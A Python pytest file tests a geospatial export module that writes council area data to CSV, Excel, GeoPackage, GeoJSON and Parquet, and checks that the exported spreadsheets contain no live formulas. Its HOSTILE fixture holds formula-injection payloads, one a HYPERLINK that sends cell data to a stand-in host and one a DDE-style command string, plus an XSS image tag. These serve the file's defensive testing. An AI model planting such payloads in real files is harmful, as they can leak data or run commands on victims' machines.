"""Exports a council analyst opens in Excel or a GIS."""

from __future__ import annotations

import csv

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from geo.exports import (
    ExportError,
    format_for,
    metadata_table,
    neutralise,
    read_csv,
    write_csv,
    write_table,
    write_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 161 000 0000",
    "-2+3",
    "line one\rline two",
    "line one\r\nline two",
    'He said "hello", then left',
    "\tTabbed",
    "Café £5 – naïve ’quoted’",
    "<img src=x onerror=alert(1)>",
]


def _areas() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "lsoa21nm": HOSTILE,
            "population": range(1000, 1000 + len(HOSTILE)),
            "gap_score": [-0.5 + i / 10 for i in range(len(HOSTILE))],
            "hotspot": pd.array([True, False] * (len(HOSTILE) // 2), dtype="boolean"),
        },
        index=pd.Index([f"E0100000{i}" for i in range(len(HOSTILE))], name="lsoa21cd"),
        geometry=[shapely.box(i * 100, 0, i * 100 + 100, 100) for i in range(len(HOSTILE))],
        crs="EPSG:27700",
    )


def test_neutralise_prefixes_formula_triggers_only():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@A1") == "'@A1"
    assert neutralise("Plain") == "Plain"
    assert neutralise(-3) == -3


def test_csv_round_trip_keeps_content_and_is_inert(tmp_path):
    path = write_csv(_areas().reset_index(), tmp_path / "areas.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    back = read_csv(path)
    assert len(back) == len(HOSTILE)
    for original, written in zip(HOSTILE, back["lsoa21nm"], strict=True):
        if original.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert written == "'" + original
        else:
            assert written == original
    # numbers stay numbers (a negative number is not neutralised)
    assert back["gap_score"].iloc[0] == pytest.approx(-0.5)
    # no cell a spreadsheet would evaluate
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_xlsx_has_sheets_and_stores_text_not_formulas(tmp_path):
    meta = metadata_table(
        [{"dataset": "iod2025", "title": "=IoD", "vintage": "2025", "rows": 9}],
        {"model": "all-ages"},
        {"areas": len(HOSTILE)},
    )
    path = write_xlsx({"areas": _areas()}, tmp_path / "r.xlsx", metadata=meta)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["areas", "metadata"]
    sheet = book["areas"]
    assert sheet.max_row == len(HOSTILE) + 1
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
    assert sheet["A2"].value == "'" + HOSTILE[0]
    assert "'=IoD" in [c.value for c in book["metadata"]["C"]]


def test_gpkg_layers_read_back_with_rows_and_crs(tmp_path):
    areas = _areas()
    assets = gpd.GeoDataFrame(
        {"name": ["A", "B"]}, geometry=[shapely.Point(1, 1), shapely.Point(5, 5)], crs=27700
    )
    meta = metadata_table([], {"model": "older"}, {"areas": len(areas), "assets": 2})
    path = write_table(areas, tmp_path / "out.gpkg", metadata=meta, extra_layers={"assets": assets})
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"areas", "assets", "metadata"}
    back = gpd.read_file(path, layer="areas")
    assert len(back) == len(areas) and back.crs.to_epsg() == 27700
    assert list(back["lsoa21cd"]) == list(areas.index)
    assert back["lsoa21nm"].tolist() == HOSTILE
    assert len(gpd.read_file(path, layer="assets")) == 2


def test_geojson_is_wgs84_with_metadata_sidecar(tmp_path):
    meta = metadata_table([{"dataset": "x", "title": "X"}], {}, {"areas": 10})
    path = write_table(_areas(), tmp_path / "areas.geojson", metadata=meta)
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 4326 and len(back) == len(HOSTILE)
    assert (tmp_path / "areas.metadata.json").is_file()


def test_parquet_keeps_provenance_in_file_metadata(tmp_path):
    import pyarrow.parquet as pq

    meta = metadata_table([{"dataset": "iod2025", "title": "IoD"}], {}, {"areas": 10})
    path = write_table(_areas(), tmp_path / "areas.parquet", metadata=meta)
    assert b"belonging_atlas" in pq.read_schema(path).metadata
    assert len(gpd.read_parquet(path)) == len(HOSTILE)


def test_unknown_extension_is_a_clear_error(tmp_path):
    with pytest.raises(ExportError, match=r"\.csv, \.xlsx, \.gpkg, \.geojson, \.parquet"):
        format_for(tmp_path / "out.docx")
    with pytest.raises(ExportError, match="needs geometry"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "x.gpkg")


def test_xlsx_sheets_have_frozen_filtered_headers_formats_and_a_dictionary(tmp_path):
    frame = pd.DataFrame(
        {
            "lsoa21cd": ["E01000001", "E01000002"],
            "pct_renting": [0.25, 0.5],
            "nearest_library_m": [412.4, 1204.9],
            "risk_score": [0.1234, -1.5],
            "population": [1500, 1620],
            "empty": [None, None],
            "blank": ["", " "],
        }
    )

    def dictionary(sheets):
        return pd.DataFrame(
            [{"sheet": s, "column": c} for s, columns in sheets.items() for c in columns]
        )

    path = write_xlsx({"areas": frame}, tmp_path / "t.xlsx", dictionary=dictionary)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["areas", "dictionary"]
    sheet = book["areas"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:E3"
    header = [c.value for c in sheet[1]]
    assert header == ["lsoa21cd", "pct_renting", "nearest_library_m", "risk_score", "population"]
    formats = [sheet.cell(row=2, column=i).number_format for i in range(2, 6)]
    assert formats == ["0.0%", "#,##0", "0.00", "#,##0"]
    assert sheet.cell(row=2, column=2).value == 0.25  # the value itself is unrounded
    listed = [r[1] for r in book["dictionary"].iter_rows(min_row=2, values_only=True)]
    assert listed == header


def test_metadata_is_readable_without_json_quotes_or_local_folders():
    meta = metadata_table(
        [{"dataset": "iod2025", "title": "IoD", "location": "/srv/data/imd/File_7.csv"},
         {"dataset": "osm", "title": "OSM", "location": "https://example.org/a.pbf"}],
        {"area": "E08000009", "thresholds": [400, 800], "weights": None},
        {"areas": 3},
    )  # fmt: skip
    values = meta.set_index("name")["value"]
    assert values["area"] == "E08000009"
    assert values["thresholds"] == "400, 800"
    assert values["weights"] == "(default)"
    locations = meta.set_index("name")["location"]
    assert locations["iod2025"] == "File_7.csv"
    assert locations["osm"] == "https://example.org/a.pbf"
